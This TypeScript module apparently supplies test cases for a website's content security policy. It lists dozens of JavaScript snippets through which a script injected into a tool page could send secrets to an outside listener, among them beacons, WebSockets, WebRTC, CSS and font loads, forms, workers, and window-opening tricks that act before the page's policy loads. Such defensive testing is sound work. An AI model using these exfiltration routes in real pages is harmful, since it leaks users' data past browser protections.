/**
 * What a script that got into a tool page could try in order to send something out, each as the body of an async function.
 * `target` is an address of a listener that belongs to somebody else.
 */
export const ESCAPES: Record<string, string> = {
  fetch: `await fetch(target)`,
  'fetch that outlives the page': `await fetch(target, { method: 'POST', mode: 'no-cors', keepalive: true, body: 'secret' })`,
  'fetch to the own origin': `const answer = await fetch('/healthz?secret'); if (answer.ok) await fetch(target)`,
  XMLHttpRequest: `const request = new XMLHttpRequest(); request.open('GET', target); request.send()`,
  beacon: `navigator.sendBeacon(target, 'secret')`,
  WebSocket: `new WebSocket(target.replace('http', 'ws'))`,
  EventSource: `new EventSource(target)`,
  image: `new Image().src = target`,
  'image in SVG': `const svg = 'http://www.w3.org/2000/svg'; const root = document.createElementNS(svg, 'svg'); const image = document.createElementNS(svg, 'image'); image.setAttribute('href', target); root.append(image); document.body.append(root)`,
  'CSS background': `document.body.style.backgroundImage = 'url(' + target + ')'`,
  'CSS rule': `const sheet = new CSSStyleSheet(); sheet.replaceSync('body { border: 9px solid; border-image: url(' + target + ') }'); document.adoptedStyleSheets = [sheet]`,
  font: `await new FontFace('x', 'url(' + target + ')').load()`,
  audio: `await new Audio(target).play()`,
  'video poster': `const video = document.createElement('video'); video.poster = target; document.body.append(video)`,
  object: `const object = document.createElement('object'); object.data = target; document.body.append(object)`,
  embed: `const embed = document.createElement('embed'); embed.src = target; document.body.append(embed)`,
  frame: `const frame = document.createElement('iframe'); frame.src = target; document.body.append(frame)`,
  script: `const script = document.createElement('script'); script.src = target; document.head.append(script)`,
  'string as code': `setTimeout('fetch("' + target + '")')`,
  import: `await import(target)`,
  stylesheet: linkOf('stylesheet'),
  prefetch: linkOf('prefetch'),
  preload: `${linkOf('preload')}; link.as = 'image'`,
  modulepreload: linkOf('modulepreload'),
  icon: linkOf('icon'),
  'speculation rules': `const script = document.createElement('script'); script.type = 'speculationrules'; script.textContent = JSON.stringify({ prefetch: [{ urls: [target], eagerness: 'immediate' }] }); document.head.append(script)`,
  form: `const form = document.createElement('form'); form.action = target; form.method = 'post'; document.body.append(form); form.submit()`,
  'form in a new window': `const form = document.createElement('form'); form.action = target; form.method = 'post'; form.target = '_blank'; document.body.append(form); form.submit()`,
  navigation: `location.href = target`,
  'meta refresh': `const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = '0;url=' + target; document.head.append(meta)`,
  link: `const link = document.createElement('a'); link.href = target; document.body.append(link); link.click()`,
  'link in a new window': `const link = document.createElement('a'); link.href = target; link.target = '_blank'; document.body.append(link); link.click()`,
  'ping of a link': `const link = document.createElement('a'); link.href = '#here'; link.ping = target; document.body.append(link); link.click()`,
  download: `const link = document.createElement('a'); link.href = target; link.download = 'x'; document.body.append(link); link.click()`,
  'new window': `window.open(target)`,
  'another page of this site': fromWindow(`'/about'`),
  'another file of this site': fromWindow(`'/robots.txt'`),
  'a script of this site': fromWindow(
    `document.querySelector('astro-island').getAttribute('component-url')`,
  ),
  'a style of this site': fromWindow(`document.querySelector('link[rel=stylesheet]').href`),
  'an answer of this site that is no page': fromWindow(`'/healthz'`),
  'an address that this site cannot read': fromWindow(`'/' + 'a'.repeat(20_000)`),
  'an empty window': fromWindow(`'about:blank'`),
  ...atOnceInAWindow(),
  'worker from a blob': `new Worker(URL.createObjectURL(new Blob(['fetch("' + target + '")'])))`,
  'worker from a data address': `new Worker('data:text/javascript,' + encodeURIComponent('fetch("' + target + '")'))`,
  'shared worker': `new SharedWorker(URL.createObjectURL(new Blob(['fetch("' + target + '")'])))`,
  WebRTC: `const peer = new RTCPeerConnection({ iceServers: [{ urls: target.replace('http://', 'stun:').replace(/[/].*/, '') }] }); peer.createDataChannel('x'); await peer.setLocalDescription(await peer.createOffer())`,
}

/** Those that need a page each, because it is another one afterwards, or none: its renderer ends where WebRTC is forbidden. */
export const LEAVES_THE_PAGE = ['form', 'navigation', 'meta refresh', 'link', 'download', 'WebRTC']

/** Those that open a window, which takes the page its time. */
export const OPENS_A_WINDOW = Object.keys(ESCAPES).filter((name) =>
  /window\.open|_blank/.test(ESCAPES[name] ?? ''),
)

/** What a script in a tool page can ask this site itself for, with `target` as an address of its own server. */
export const OWN_SITE: Record<string, string> = {
  image: ESCAPES['image'] ?? '',
  import: ESCAPES['import'] ?? '',
  font: ESCAPES['font'] ?? '',
  stylesheet: linkOf('stylesheet'),
  prefetch: linkOf('prefetch'),
  navigation: ESCAPES['navigation'] ?? '',
}

const POST_FORM = `const form = document.createElement('form'); form.method = 'post'; form.action = target; opened.document.documentElement.append(form); form.submit()`

/** Ways to post something to this site's own server, with `target` as an address of it, through another of its documents. */
export const THROUGH_ANOTHER_PAGE: Record<string, string> = {
  'the contact page': inWindow('/contact', `await opened.fetch(target, POST)`),
  'the script of the service worker': inWindow('/sw.js', `await opened.fetch(target, POST)`),
  'a form in a text file': inWindow('/robots.txt', POST_FORM),
  'an unknown address, at once': atOnce('/nope', `void opened.fetch(target, POST).catch(Boolean)`),
  'a form at an unknown address, at once': atOnce('/nope', POST_FORM),
  'a tool page, at once': atOnce(
    '/tools/json-formatter',
    `void opened.fetch(target, POST).catch(Boolean)`,
  ),
}

/** A request to this site's own server from a page whose address was changed. */
export const WITH_THE_ADDRESS = `history.replaceState(null, '', '?secret7319426'); new Image().src = target`

/** Opens a document of this site in a window and does something in it, as long as the browser lets it. */
function inWindow(address: string, deed: string): string {
  return `const POST = { method: 'POST', body: 'secret7319426' }; const opened = window.open('${address}'); for (let tries = 0; tries < 60; tries++) { await new Promise((resolve) => setTimeout(resolve, 50)); if (opened.location.pathname !== '${address}' || opened.document.readyState !== 'complete') continue; ${deed}; return }`
}

/** Opens `address` in a new window and navigates away from there. */
function fromWindow(address: string): string {
  return `const opened = window.open(${address}); for (let tries = 0; tries < 200; tries++) { await new Promise((resolve) => setTimeout(resolve, 50)); const body = opened.document; if (opened.location.href === 'about:blank' && ${address} !== 'about:blank' || body.readyState !== 'complete') continue; const link = body.createElementNS('http://www.w3.org/1999/xhtml', 'a'); link.href = target; body.documentElement.append(link); link.click(); return }`
}

/**
 * Sends from a window before its page has its <meta> with the policy: the attempts begin with the window and repeat until its
 * page has loaded. The page for unknown addresses and a tool page represent all pages.
 */
function atOnceInAWindow(): Record<string, string> {
  const ways = {
    fetch: `opened.fetch(target, { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => undefined)`,
    frame: `const frame = opened.document.createElement('iframe'); frame.src = target; opened.document.documentElement.append(frame)`,
    image: `new opened.Image().src = target`,
  }
  const pages = { 'an unknown address': '/nope', 'a tool page': '/tools/json-formatter' }
  return Object.fromEntries(
    Object.entries(pages).flatMap(([page, address]) =>
      Object.entries(ways).map(([way, deed]) => [
        `${way} at once in a window with ${page}`,
        atOnce(address, deed),
      ]),
    ),
  )
}

/** Opens a window and does something in it again and again, from its first moment with a document of this site on. */
function atOnce(address: string, deed: string): string {
  return `const POST = { method: 'POST', body: 'secret7319426' }; const opened = window.open('${address}'); const end = Date.now() + 3000; while (Date.now() < end) { try { if (opened.location.pathname === '${address}' && opened.document.documentElement) { ${deed} } } catch {} if (opened.location.pathname === '${address}' && opened.document.readyState === 'complete') return; await new Promise((resolve) => { const { port1, port2 } = new MessageChannel(); port1.onmessage = resolve; port2.postMessage(0) }) }`
}

/** Puts a link of this kind into the head. */
export function linkOf(rel: string): string {
  return `const link = document.createElement('link'); link.rel = '${rel}'; link.href = target; document.head.append(link)`
}
